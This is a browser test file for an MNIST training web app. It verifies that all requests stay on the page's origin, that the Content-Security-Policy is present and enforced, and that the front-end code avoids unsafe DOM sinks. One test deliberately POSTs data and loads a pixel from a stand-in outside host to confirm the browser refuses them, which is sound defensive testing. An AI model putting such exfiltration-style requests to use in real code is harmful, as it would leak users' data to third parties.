// "Nothing leaves the machine": every request of a whole session (load, train, draw,
// open images, export, import, a shared link, a reload) goes to the page's own origin; the
// server's Content-Security-Policy is on every response and blocks anything else; the front end
// has no inline handlers and never turns text into markup.
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import { test, expect, byId, waitNum, drawStrokes, expectPrediction, ONE } from './support/lab.js';
import { REPO, encodePng, scanOfDigit, testImage } from './support/mnist.js';
import { steps, savedAt, exportWeights, importFile } from './support/hardening.js';

// A first visit: the session's requests include the data's download and its decoder.
test.use({ dataCache: 'cold' });

test('a whole session sends every request to its own origin, under the CSP', async ({ page, context, baseURL }) => {
  const origin = new URL(baseURL).origin;
  const requests = [];
  context.on('request', (r) => requests.push(r.url()));
  // The policy governs a document or a worker and comes from that one's own response (the page's
  // navigation, a worker's entry script): each of those must carry it (scripts/csp.mjs
  // carriesPolicy). Modules, style sheets, fonts and wasm run under the policy of what loads them.
  const policy = new Map();
  context.on('response', async (r) => {
    if (r.url().startsWith(origin) && r.status() < 300) policy.set(r.url(), (await r.allHeaders())['content-security-policy'] || '');
  });
  const governing = new Set();
  context.on('request', (r) => r.isNavigationRequest() && governing.add(r.url()));
  page.on('worker', (w) => governing.add(w.url()));
  context.on('serviceworker', (w) => governing.add(w.url()));

  await page.goto('/');
  await expect(byId(page, 'status')).toHaveAttribute('data-state', 'ready', { timeout: 60_000 });
  await steps(page, 40);
  await byId(page, 'play').click();
  await waitNum(page, 'step-count', (s) => s > 60);
  await byId(page, 'pause').click();
  await expect(byId(page, 'status')).toHaveAttribute('data-state', 'paused');
  await drawStrokes(page, ONE);
  await expect(byId(page, 'prediction')).toHaveText(/^[0-9]$/);
  const scan = scanOfDigit(testImage(0), { seed: 3 });
  await byId(page, 'image-input').setInputFiles({ name: 'scan.png', mimeType: 'image/png', buffer: encodePng(scan.width, scan.height, scan.rgb) });
  await expectPrediction(page, 7);
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100"><rect width="100" height="100" fill="#fff"/>'
    + '<path d="M50 15 L46 85" stroke="#000" stroke-width="9"/><image href="https://example.org/pixel.png" width="5" height="5"/>'
    + '<style>@import url("https://example.org/font.css");</style></svg>';
  await byId(page, 'image-input').setInputFiles({ name: 'one.svg', mimeType: 'image/svg+xml', buffer: Buffer.from(svg) });
  await expect(page.locator('.pad-message')).toHaveText(/an SVG drawing/);
  const { text, name } = await exportWeights(page);
  await importFile(page, { name, mimeType: 'application/json', buffer: Buffer.from(text) });
  await expect(byId(page, 'import-message')).toHaveText(/^Imported/);
  const link = await byId(page, 'share-link').getAttribute('href');
  await page.goto(link);
  await expect(byId(page, 'status')).toHaveAttribute('data-state', 'ready', { timeout: 60_000 });
  await steps(page, 3);
  await savedAt(page, 3);
  await page.reload();
  await expect(byId(page, 'status')).toHaveAttribute('data-state', 'paused', { timeout: 60_000 });

  const outside = requests.filter((u) => !(u.startsWith(`${origin}/`) || u.startsWith('blob:') || u.startsWith('data:')));
  expect(outside, 'requests that leave the origin').toEqual([]);
  // The list really holds the worker's requests too (the wasm module, the data files and their decoder).
  const paths = [...new Set(requests.filter((u) => u.startsWith(origin)).map((u) => new URL(u).pathname))].sort();
  for (const p of ['/www/worker.js', '/www/pkg/softmax_lab_bg.wasm', '/data/manifest.json', '/data/mnist/train-t10k-images-idx3-ubyte.xz', '/www/vendor/xz/xz-embedded.wasm']) expect(paths).toContain(p);
  test.info().annotations.push({ type: 'requests', description: `${requests.length} requests, all to ${origin}: ${paths.join(' ')}` });
  const missingCsp = [...governing].filter((u) => !/default-src 'self'/.test(policy.get(u) ?? ''));
  expect(missingCsp, 'the page and workers whose response had no CSP header').toEqual([]);
  // The page and the training and data workers were among them (the check above saw them).
  for (const u of [`${origin}/`, `${origin}/www/worker.js`, `${origin}/www/data-worker.js`]) expect([...governing]).toContain(u);
});

test.describe('the CSP is enforced', () => {
  test.use({ allowProblems: /example\.net/ });

  test('a script that tries to reach another origin is refused by the browser', async ({ page }) => {
    await page.goto('/');
    await expect(byId(page, 'status')).toHaveAttribute('data-state', 'ready', { timeout: 60_000 });
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      let fetched = 'sent';
      try {
        await fetch('https://example.net/collect', { method: 'POST', body: 'digits' });
      } catch {
        fetched = 'refused';
      }
      const img = new Image();
      img.src = 'https://example.net/pixel.gif';
      await new Promise((resolve) => {
        img.onerror = resolve;
        img.onload = resolve;
      });
      await new Promise((resolve) => {
        setTimeout(resolve, 100);
      });
      return { fetched, violations };
    });
    expect(outcome.fetched).toBe('refused');
    expect(outcome.violations).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
  });
});

test('the front end has no inline handlers and never builds markup from text', () => {
  const files = ['index.html', ...['www', 'www/sections'].flatMap((d) => readdirSync(join(REPO, d)).filter((f) => f.endsWith('.js')).map((f) => `${d}/${f}`))];
  const bad = [];
  for (const f of files) {
    const text = readFileSync(join(REPO, f), 'utf8').replace(/^\s*\/\/.*$/gm, '');
    for (const [what, re] of [
      ['innerHTML/outerHTML', /\.(inner|outer)HTML\s*=/],
      ['insertAdjacentHTML', /insertAdjacentHTML/],
      ['document.write', /document\.write/],
      ['eval / Function', /\beval\(|new Function\(/],
      ['inline handler attribute', /\son[a-z]+\s*=\s*["']/],
      ['handler set as attribute', /setAttribute\(\s*['"]on/],
      ['inline script', /<script>(?!\s*<\/script>)/],
    ]) if (re.test(text)) bad.push(`${f}: ${what}`);
  }
  expect(files.length).toBeGreaterThan(10);
  expect(bad).toEqual([]);
});
